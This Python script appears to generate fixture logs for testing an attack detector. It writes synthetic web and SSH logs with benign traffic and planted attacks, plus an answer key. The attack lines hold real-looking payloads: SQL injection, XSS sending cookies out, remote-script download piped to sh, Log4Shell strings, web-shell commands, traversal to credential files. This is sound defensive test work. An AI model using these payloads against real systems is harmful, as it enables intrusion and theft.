"""
Writes the sample logs, planted.json and nothing else: `python tests/data/make_logs.py [DIRECTORY]`.

The same lines every time. Clients are documentation addresses (RFC 5737, RFC 3849), hosts inside
are RFC 1918; benign clients and attackers share no address.
"""

import gzip
import json
import random
import sys
from collections import defaultdict
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

FRIDAY = datetime(2026, 2, 20, tzinfo=UTC)
SATURDAY = FRIDAY + timedelta(days=1)
SUNDAY = FRIDAY + timedelta(days=2)
ISTANBUL = timezone(timedelta(hours=3))

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/144.0.0.0 Safari/537.36"
)
SAFARI = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/18.3 Safari/605.1.15"
)
FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1"
)
PIXEL = (
    "Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/143.0.0.0 Mobile Safari/537.36"
)
BROWSERS = (CHROME, SAFARI, FIREFOX, IPHONE, PIXEL)
WORDS = """
    old new test1 stage intern private files docs2 download upload data archive members secret
    portal intranet reports export import tools system panel stats users customers orders2
    invoices beta legacy mobile partner supplier press media2 sandbox preview draft misc www
    site2 forum wiki shop2 store mail webmail calendar crm erp hr finance legal support desk
"""
ACCOUNTS = "admin oracle test postgres ubuntu git ftpuser root jenkins minecraft pi guest"
PAGES = (
    "/", "/about", "/contact", "/blog", "/blog/winter-in-the-mountains", "/blog/union-square-guide",
    "/hotels", "/hotels/santa-croce", "/hotels/le-script", "/offers", "/offers?season=spring&page=2",
    "/faq", "/jobs", "/terms", "/hotels/caf%C3%A9-m%C3%BCnchen", "/de/%C3%BCber-uns",
)  # fmt: skip
ASSETS = (
    "/assets/app.3f9c1b.css", "/assets/app.3f9c1b.js", "/assets/logo.svg", "/assets/script-fonts.woff2",
    "/images/hero.webp", "/images/union-jack.png",
)  # fmt: skip
SEARCHES = (
    "select+the+best+union+hotel", "where+to+drop+off+luggage", "rock+%26+roll+from+the+50s",
    "1+or+2+beds", "caf%C3%A9+%C3%A0+Paris", "%E6%9D%B1%E4%BA%AC+%E3%83%9B%E3%83%86%E3%83%AB",
    "O%27Connell+street", "insert+coin+update+2026", "alert+me+when+cheaper", "C%2B%2B+conference",
)  # fmt: skip


@dataclass(frozen=True)
class Planted:
    """One attack in the logs."""

    ip: str
    family: str
    """Of tasks.model.incidents.Family."""
    file: str
    """Where it begins, relative to logs/."""
    what: str


class Logs:
    """Lines by file, each with the time that it is written at."""

    def __init__(self) -> None:
        self.random = random.Random(20260220)
        self.files: dict[str, list[tuple[datetime, bytes]]] = defaultdict(list)
        self.planted: list[Planted] = []

    def write(self, file: str, at: datetime, line: str | bytes) -> None:
        self.files[file].append((at, line.encode() if isinstance(line, str) else line))

    def plant(self, ip: str, family: str, file: str, what: str) -> None:
        self.planted.append(Planted(ip, family, file, what))


@dataclass(frozen=True)
class Site:
    """A web server that writes Combined, with the virtual host first where it has several."""

    logs: Logs
    host: str
    files: dict[datetime, str]
    """Day to file: what rotation has made of it."""
    vhost: str = ""
    zone: timezone = UTC

    def request(
        self,
        at: datetime,
        ip: str,
        target: str,
        *,
        method: str = "GET",
        status: int = 200,
        size: int = -1,
        referrer: str = "-",
        agent: str = CHROME,
        user: str = "-",
    ) -> None:
        if size < 0:
            size = 0 if status == 304 else self.logs.random.randrange(180, 24_000)
        local = at.astimezone(self.zone)
        day = datetime(at.year, at.month, at.day, tzinfo=UTC)
        vhost = f"{self.vhost} " if self.vhost else ""
        self.logs.write(
            self.files[day],
            at,
            f'{vhost}{ip} - {user} [{local:%d/%b/%Y:%H:%M:%S %z}] "{method} {target} HTTP/1.1"'
            f' {status} {size} "{referrer}" "{agent}"',
        )


# --- benign ----------------------------------------------------------------


def browse(site: Site, ip: str, start: datetime, agent: str, pages: int) -> None:
    """A person comes from a search engine, looks at pages with their assets, and searches."""
    dice = site.logs.random
    base = f"https://{site.host}"
    at, referrer = start, dice.choice(["-", "https://www.google.com/", "https://duckduckgo.com/"])
    is_first = True
    for _ in range(pages):
        page = dice.choice(PAGES)
        if dice.random() < 0.15:
            page = f"/search?q={dice.choice(SEARCHES)}"
        site.request(at, ip, page, referrer=referrer, agent=agent)
        referrer = base + page
        if is_first:
            for asset in ASSETS:
                at += timedelta(seconds=dice.random() / 4)
                status = 304 if dice.random() < 0.3 else 200
                site.request(at, ip, asset, status=status, referrer=referrer, agent=agent)
            status = 404 if dice.random() < 0.5 else 200
            site.request(at, ip, "/favicon.ico", status=status, referrer=referrer, agent=agent)
            is_first = False
        at += timedelta(seconds=dice.randrange(4, 90))


def log_in(site: Site, ip: str, at: datetime, agent: str, failures: int) -> None:
    """A person logs in, with *failures* wrong passwords before the right one."""
    page = f"https://{site.host}/login"
    site.request(at, ip, "/login", agent=agent)
    for _ in range(failures):
        at += timedelta(seconds=site.logs.random.randrange(5, 30))
        site.request(at, ip, "/login", method="POST", status=401, referrer=page, agent=agent)
    at += timedelta(seconds=12)
    site.request(at, ip, "/login", method="POST", status=302, size=0, referrer=page, agent=agent)
    site.request(at + timedelta(seconds=1), ip, "/account", referrer=page, agent=agent)


def visit_all_day(site: Site, day: datetime, addresses: Iterable[str], visits: int) -> None:
    dice = site.logs.random
    pool = list(addresses)
    for _ in range(visits):
        start = day + timedelta(seconds=int(dice.triangular(0, 85_000, 55_000)))
        ip, agent = dice.choice(pool), dice.choice(BROWSERS)
        browse(site, ip, start, agent, dice.randrange(1, 6))
        if dice.random() < 0.12:
            log_in(site, ip, start + timedelta(minutes=6), agent, dice.choice([0, 0, 1, 2]))


def crowd(site: Site, days: Iterable[datetime], visits: int) -> None:
    """Ordinary people, IPv4 and IPv6."""
    addresses = [
        *(f"198.51.100.{n}" for n in range(20, 150)),
        *(f"203.0.113.{n}" for n in range(10, 140)),
        *(f"2001:db8:{n:x}::{n + 7:x}" for n in range(1, 40)),
    ]
    for day in days:
        visit_all_day(site, day, addresses, visits)


def office(site: Site, day: datetime) -> None:
    """A dozen people behind one address, in working hours, some with wrong passwords."""
    dice = site.logs.random
    for person in range(12):
        for _ in range(2):
            start = day + timedelta(hours=8, minutes=dice.randrange(540))
            browse(site, "192.0.2.50", start, BROWSERS[person % 5], dice.randrange(3, 7))
        log_in(
            site,
            "192.0.2.50",
            day + timedelta(hours=8, minutes=dice.randrange(60)),
            BROWSERS[person % 5],
            person % 3 // 2,
        )


def crawler(site: Site, days: Iterable[datetime]) -> None:
    """A search engine follows links, also old ones."""
    agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    dice = site.logs.random
    for day in days:
        site.request(day + timedelta(hours=1), "192.0.2.66", "/robots.txt", agent=agent)
        site.request(day + timedelta(hours=1, seconds=2), "192.0.2.66", "/sitemap.xml", agent=agent)
        for n in range(60):
            at = day + timedelta(hours=1, seconds=40 + n * dice.randrange(300, 400))
            old = f"/archive/2019/post-{dice.randrange(900)}"
            target, status = (old, 404) if n % 6 == 0 else (dice.choice(PAGES), 200)
            site.request(at, "192.0.2.66", target, status=status, agent=agent)


def monitor(site: Site, days: Iterable[datetime]) -> None:
    """An uptime check every ten minutes, a load balancer's from inside; a short outage."""
    agent = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
    for day in days:
        for n in range(144):
            at = day + timedelta(minutes=10 * n, seconds=17)
            is_down = day == SATURDAY and 30 <= n < 33
            status = 503 if is_down else 200
            site.request(
                at, "192.0.2.77", "/health", method="HEAD", status=status, size=0, agent=agent
            )
            if n % 3 == 0:
                site.request(
                    at, "10.0.0.5", "/health", status=status, size=2, agent="ELB-HealthChecker/2.0"
                )


def feed_reader(site: Site, days: Iterable[datetime]) -> None:
    """A reader asks for the feed every half hour and mostly hears that nothing is new."""
    for day in days:
        for n in range(48):
            at = day + timedelta(minutes=30 * n, seconds=41)
            site.request(
                at,
                "192.0.2.88",
                "/feed.xml",
                status=200 if n % 16 == 0 else 304,
                agent="Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
            )


def api_client(site: Site, days: Iterable[datetime]) -> None:
    """A program with odd but honest queries, now and then with an expired token."""
    targets = (
        "/v1/orders?filter%5Bstatus%5D=open&select=id,name,owner(name)&order=created_at.desc",
        "/v1/orders?where=total%3E%3D100&limit=50&offset=100",
        "/v1/items?expand=prices.*,stock&fields=id,sku,(size,colour)",
        "/v1/items/batch?ids=1,2,3,5,8,13,21&include=union,script",
        "/v1/search?q=%7B%22name%22%3A%22lamp%22%2C%22max%22%3A40%7D",
        "/v1/reports/2026-02?format=csv&columns=date,count(*)",
    )
    dice = site.logs.random
    for day in days:
        for n in range(150):
            at = day + timedelta(minutes=9 * n, seconds=dice.randrange(60))
            status = 401 if n % 40 == 0 else 200
            site.request(
                at,
                "192.0.2.99",
                dice.choice(targets),
                status=status,
                agent="acme-sync/3.2 python-requests/2.32.3",
                user="-" if status == 401 else "acme-sync",
            )


# --- attacks on the web ----------------------------------------------------


def send_all(
    site: Site,
    ip: str,
    start: datetime,
    targets: Iterable[str],
    statuses: tuple[int, ...] = (200,),
    *,
    seconds: int = 9,
    method: str = "GET",
    agent: str = CHROME,
) -> None:
    """Each target once, some *seconds* apart."""
    at = start
    for n, target in enumerate(targets):
        status = statuses[n % len(statuses)]
        site.request(at, ip, target, status=status, method=method, agent=agent)
        at += timedelta(seconds=site.logs.random.randrange(1, 2 * seconds))


def inject_sql(site: Site) -> None:
    ip = "203.0.113.201"
    site.logs.plant(ip, "sql_injection", site.files[SUNDAY], "boolean, union and time-based SQLi")
    browse(site, ip, SUNDAY + timedelta(hours=9), FIREFOX, 2)
    send_all(
        site,
        ip,
        SUNDAY + timedelta(hours=9, minutes=5),
        [
            "/hotels?id=17%27",
            "/hotels?id=17%27%20AND%201%3D1--%20-",
            "/hotels?id=17%27%20AND%201%3D2--%20-",
            "/hotels?id=17%27%20OR%20%27a%27%3D%27a",
            *(f"/hotels?id=-1%27+UNION+ALL+SELECT+{',+'.join(['NULL'] * n)}--+-" for n in range(1, 8)),
            "/hotels?id=-1%27+UNION+SELECT+1,concat(user,0x3a,password),3+FROM+users--+-",
            "/hotels?id=17%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-",
            "/hotels?id=17%27/**/AND/**/EXTRACTVALUE(1,concat(0x7e,version()))--%20-",
            "/hotels?id=17;%20DROP%20TABLE%20bookings--",
        ],
        (200, 500, 200, 200),
        seconds=14,
        agent=FIREFOX,
    )  # fmt: skip


def inject_scripts(site: Site) -> None:
    ip = "203.0.113.202"
    site.logs.plant(ip, "cross_site_scripting", site.files[SATURDAY], "reflected XSS in the search")
    send_all(
        site,
        ip,
        SATURDAY + timedelta(hours=14, minutes=20),
        [
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/search?q=%3Csvg/onload=fetch(%27//198.51.100.250/%27%2Bdocument.cookie)%3E",
            "/search?q=javascript:alert(1)//",
            "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "/contact?name=%3Ciframe%20src=javascript:alert(1)%3E",
        ],
        seconds=25,
    )


def traverse(site: Site) -> None:
    ip = "203.0.113.203"
    site.logs.plant(ip, "path_traversal", site.files[SUNDAY], "traversal to /etc/passwd, encoded")
    send_all(
        site,
        ip,
        SUNDAY + timedelta(hours=3, minutes=33),
        [
            "/../../../../etc/passwd",
            "/images/..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/download?file=../../../../../../etc/shadow",
            "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "/download?file=..%c0%af..%c0%af..%c0%afetc/passwd",
            "/download?file=....//....//....//windows/win.ini",
            "/assets/..\\..\\..\\boot.ini",
        ],
        (403, 400, 404),
        agent="curl/7.81.0",
    )


def traverse_over_ipv6(site: Site) -> None:
    ip = "2001:db8:bad::7"
    site.logs.plant(ip, "path_traversal", site.files[FRIDAY], "the same over IPv6, in a .gz")
    send_all(
        site,
        ip,
        FRIDAY + timedelta(hours=18, minutes=2),
        [f"/view?page={'../' * n}etc/passwd%00" for n in range(2, 9)],
        (404, 200),
        agent="Go-http-client/1.1",
    )


def execute_commands(site: Site) -> None:
    ip = "203.0.113.204"
    site.logs.plant(ip, "remote_code_execution", site.files[SUNDAY], "commands and Log4Shell")
    send_all(
        site,
        ip,
        SUNDAY + timedelta(hours=12, minutes=44),
        [
            "/cgi-bin/status.cgi?host=127.0.0.1;cat%20/etc/passwd",
            "/ping?host=127.0.0.1%7Cid",
            "/ping?host=$(wget%20-qO-%20http://198.51.100.250/x.sh%7Csh)",
            "/shop?item=lamp%60curl%20http://198.51.100.250/$(whoami)%60",
            "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        ],
        (404, 200),
        seconds=20,
    )
    site.request(
        SUNDAY + timedelta(hours=12, minutes=47),
        ip,
        "/",
        agent="${jndi:ldap://198.51.100.250:1389/a}",
        referrer="${${lower:j}ndi:${lower:l}dap://198.51.100.250/b}",
    )


def scan_with_a_tool(site: Site) -> None:
    ip = "203.0.113.205"
    site.logs.plant(ip, "scanner", site.files[FRIDAY], "a scanner that says its name, in a .gz")
    send_all(
        site,
        ip,
        FRIDAY + timedelta(hours=2, minutes=15),
        [page for page in PAGES if "%" not in page] * 2,
        agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        seconds=3,
    )


def probe_sensitive_files(site: Site) -> None:
    ip = "198.51.100.206"
    site.logs.plant(ip, "reconnaissance", site.files[SUNDAY], "asks for secrets and backups")
    send_all(
        site,
        ip,
        SUNDAY + timedelta(hours=5, minutes=11),
        [
            "/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.aws/credentials",
            "/backup.sql", "/db.sql.gz", "/.ssh/id_rsa", "/wp-config.php.bak", "/.htpasswd",
            "/config.php~", "/.svn/entries", "/.DS_Store",
        ],
        (404, 404, 403),
        agent="python-requests/2.31.0",
        seconds=2,
    )  # fmt: skip


def guess_paths(site: Site) -> None:
    ip = "198.51.100.207"
    site.logs.plant(ip, "reconnaissance", site.files[SUNDAY], "a wordlist of paths, all 404")
    send_all(
        site,
        ip,
        SUNDAY + timedelta(hours=16, minutes=8),
        (f"/{word}/" for word in WORDS.split()),
        (404,),
        seconds=3,
    )


def guess_passwords(site: Site) -> None:
    ip = "198.51.100.208"
    site.logs.plant(ip, "brute_force", site.files[SATURDAY], "passwords at the login form")
    start = SATURDAY + timedelta(hours=23, minutes=2)
    site.request(start, ip, "/login", agent=IPHONE)
    send_all(site, ip, start, ["/login"] * 45, (401,), seconds=6, method="POST", agent=IPHONE)


def flood(site: Site) -> None:
    ip = "192.0.2.210"
    site.logs.plant(
        ip, "denial_of_service", site.files[SATURDAY], "4,200 requests in 4 min, in a .gz"
    )
    start = SATURDAY + timedelta(hours=19, minutes=30)
    for n in range(4200):
        at = start + timedelta(seconds=n * 240 / 4200)
        site.request(at, ip, "/offers", status=200 if n < 2500 else 503, size=512)


def break_requests(site: Site) -> None:
    ip = "192.0.2.211"
    site.logs.plant(ip, "reconnaissance", site.files[SUNDAY], "420 refused requests in 7 minutes")
    start = SUNDAY + timedelta(hours=11, minutes=50)
    for n in range(420):
        at = start + timedelta(seconds=n)
        site.request(
            at,
            ip,
            "/v1/orders",
            method="POST",
            status=400 if n % 5 else 405,
            size=91,
            agent="okhttp/4.12.0",
        )


def inject_slowly(site: Site) -> None:
    ip = "198.51.100.212"
    site.logs.plant(
        ip,
        "sql_injection",
        site.files[SATURDAY],
        "low and slow: one injection in 47 minutes among ordinary page views, over midnight",
    )
    for n in range(8):
        at = SATURDAY + timedelta(hours=20, minutes=10 + 47 * n)
        browse(site, ip, at - timedelta(minutes=20), SAFARI, 1)
        guess = "ABCDEFGH"[n]
        target = f"/offers?season=x%27%20AND%20SUBSTRING((SELECT%20password%20FROM%20users%20LIMIT%201),{n + 1},1)=%27{guess}%27--%20"
        site.request(at, ip, target, agent=SAFARI)


# --- ssh -------------------------------------------------------------------


def rfc3164(host: str) -> Callable[[datetime, str], str]:
    return lambda at, text: f"{at:%b} {at.day:2} {at:%H:%M:%S} {host} {text}"


def iso8601(host: str) -> Callable[[datetime, str], str]:
    return lambda at, text: f"{at:%Y-%m-%dT%H:%M:%S.%f}+00:00 {host} {text}"


def administer(logs: Logs, file: str, day: datetime, stamp: Callable[[datetime, str], str]) -> None:
    """Administrators log in, mistype once, use sudo; cron does its work."""
    dice = logs.random
    for hour in range(24):
        at = day + timedelta(hours=hour, minutes=17, seconds=1)
        cron = f"CRON[{3000 + hour}]: pam_unix(cron:session): session "
        logs.write(file, at, stamp(at, f"{cron}opened for user root(uid=0) by (uid=0)"))
        logs.write(file, at, stamp(at, f"{cron}closed for user root"))
    people = (
        ("anna", "10.0.3.14"),
        ("bilal", "10.0.3.15"),
        ("deploy", "10.0.0.9"),
        ("chen", "198.51.100.17"),
    )
    for n in range(14):
        user, ip = dice.choice(people)
        at = day + timedelta(hours=7, minutes=dice.randrange(700), seconds=dice.randrange(60))
        process, port = 20_000 + dice.randrange(9000), dice.randrange(32_768, 60_999)
        if user == "chen" and n % 3 == 0:
            text = f"sshd[{process}]: Failed password for {user} from {ip} port {port} ssh2"
            logs.write(file, at, stamp(at, text))
            at += timedelta(seconds=6)
        method = "password" if user == "chen" else "publickey"
        logs.write(
            file,
            at,
            stamp(at, f"sshd[{process}]: Accepted {method} for {user} from {ip} port {port} ssh2"),
        )
        text = f"sshd[{process}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"
        logs.write(file, at, stamp(at, text))
        at += timedelta(minutes=dice.randrange(1, 40))
        if n % 4 == 0:
            text = f"sudo:     {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
            logs.write(file, at, stamp(at, text))
        logs.write(
            file,
            at,
            stamp(
                at,
                f"sshd[{process}]: Received disconnect from {ip} port {port}:11: disconnected by user",
            ),
        )
        logs.write(
            file, at, stamp(at, f"sshd[{process}]: Disconnected from user {user} {ip} port {port}")
        )


def guess_accounts(logs: Logs, file: str, stamp: Callable[[datetime, str], str]) -> None:
    ip = "192.0.2.209"
    logs.plant(ip, "brute_force", file, "ssh passwords for names that mostly do not exist")
    start = SUNDAY + timedelta(hours=22, minutes=18)
    names = ACCOUNTS.split()
    for n in range(36):
        at = start + timedelta(seconds=7 * n)
        name, process, port = names[n % len(names)], 25_300 + n, 40_000 + 13 * n
        invalid = "" if name == "root" else "invalid user "
        if invalid:
            logs.write(
                file, at, stamp(at, f"sshd[{process}]: Invalid user {name} from {ip} port {port}")
            )
        at += timedelta(seconds=2)
        logs.write(
            file,
            at,
            stamp(
                at,
                f"sshd[{process}]: Failed password for {invalid}{name} from {ip} port {port} ssh2",
            ),
        )
        at += timedelta(seconds=1)
        logs.write(
            file,
            at,
            stamp(
                at,
                f"sshd[{process}]: Connection closed by {invalid or 'authenticating user '}{name} {ip} port {port} [preauth]",
            ),
        )


def guess_root(logs: Logs, file: str, stamp: Callable[[datetime, str], str]) -> None:
    ip = "192.0.2.213"
    logs.plant(ip, "brute_force", file, "ssh passwords of root, in ISO 8601 lines")
    at = SATURDAY + timedelta(hours=4, minutes=40)
    for n in range(6):
        text = f"Failed password for root from {ip} port {51_000 + n} ssh2"
        logs.write(file, at, stamp(at, f"sshd[{7100 + n}]: {text}"))
        at += timedelta(seconds=9)
        logs.write(file, at, stamp(at, f"sshd[{7100 + n}]: message repeated 2 times: [ {text}]"))
        at += timedelta(seconds=11)


# --- the rest --------------------------------------------------------------


def mixed_file(logs: Logs) -> None:
    """A small machine that writes its web server and its sshd to one file."""
    file = "edge/mixed.log"
    site = Site(
        logs, "edge.example.com", dict.fromkeys((FRIDAY, SATURDAY, SUNDAY), file), zone=ISTANBUL
    )
    visit_all_day(site, SUNDAY, [f"203.0.113.{n}" for n in range(141, 160)], 12)
    administer(logs, file, SUNDAY, rfc3164("edge"))
    ip = "203.0.113.214"
    logs.plant(
        ip, "remote_code_execution", file, "a web shell and template injection, in a mixed file"
    )
    send_all(
        site,
        ip,
        SUNDAY + timedelta(hours=13, minutes=1),
        [
            "/uploads/shell.php?cmd=cat+/etc/passwd;id",
            "/uploads/c99.php?cmd=uname%20-a;wget%20http://198.51.100.250/b",
            "/hello?name=%7B%7B''.__class__.__mro__[1].__subclasses__()%7D%7D",
            "/hello?name=$%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
        ],
        (404, 200),
        seconds=20,
    )


def damage(logs: Logs) -> None:
    """Lines as crashes, full disks and other encodings leave them."""
    noon = timedelta(hours=12)
    logs.write("web-1/access.log", SUNDAY + noon, b"\x00\x00\x00\x00\x00\x13\x37\xff\xfe\x80binary")
    logs.write("web-1/access.log", SUNDAY + noon, b"198.51.100.23 - - [22/Feb/2026:12:0")
    logs.write(
        "web-1/access.log.1", SATURDAY + noon, b"nginx: worker process 812 exited on signal 9"
    )
    logs.write(
        "web-1/access.log.1",
        SATURDAY + noon,
        b'198.51.100.24 - - [21/Feb/2026:12:00:00 +0000] "GET /caf\xe9 HTTP/1.1" 200 311 "-" "caf\xe9/1.0"',
    )
    logs.write(
        "web-1/access.log.2.gz",
        FRIDAY + noon,
        b'198.51.100.25 - - [20/Feb/2026:12:00:00 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01" 400 157 "-" "-"',
    )
    logs.write("bastion/auth.log", SUNDAY + noon, b"\xff\xfe\x00garbage after a crash\x00\x00")


def make_logs() -> Logs:
    """All files of all hosts."""
    logs = Logs()
    days = (FRIDAY, SATURDAY, SUNDAY)
    web = Site(
        logs,
        "www.example.com",
        dict(
            zip(
                days,
                ("web-1/access.log.2.gz", "web-1/access.log.1", "web-1/access.log"),
                strict=True,
            )
        ),
    )
    shop = Site(
        logs,
        "shop.example.com",
        dict(
            zip(
                days,
                ("shop/access.log.1.gz", "shop/access.log.1.gz", "shop/access.log"),
                strict=True,
            )
        ),
        vhost="shop.example.com:443",
        zone=ISTANBUL,
    )
    api = Site(logs, "api.example.com", dict.fromkeys(days, "api/access.log"))
    crowd(web, days, 50)
    crowd(shop, days, 20)
    for day in (FRIDAY, SUNDAY):
        office(web, day)
    crawler(web, days)
    monitor(web, days)
    feed_reader(web, days)
    api_client(api, days)
    for attack in (
        inject_sql, inject_scripts, traverse, traverse_over_ipv6, scan_with_a_tool,
        probe_sensitive_files, guess_passwords, inject_slowly,
    ):  # fmt: skip
        attack(web)
    for attack in (execute_commands, guess_paths, flood):
        attack(shop)
    break_requests(api)
    administer(logs, "bastion/auth.log.1", FRIDAY, rfc3164("bastion"))
    administer(logs, "bastion/auth.log.1", SATURDAY, rfc3164("bastion"))
    administer(logs, "bastion/auth.log", SUNDAY, rfc3164("bastion"))
    guess_accounts(logs, "bastion/auth.log", rfc3164("bastion"))
    administer(logs, "api/auth.log", SATURDAY, iso8601("api"))
    guess_root(logs, "api/auth.log", iso8601("api"))
    mixed_file(logs)
    damage(logs)
    return logs


def main(directory: Path) -> None:
    """*directory* holds logs/ and planted.json, as they are committed."""
    logs = make_logs()
    for name, lines in logs.files.items():
        path = directory / "logs" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        content = b"".join(line + b"\n" for _, line in sorted(lines, key=lambda entry: entry[0]))
        path.write_bytes(gzip.compress(content, mtime=0) if path.suffix == ".gz" else content)
    table = json.dumps([asdict(p) for p in logs.planted], indent=2)
    (directory / "planted.json").write_text(f"{table}\n")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent)
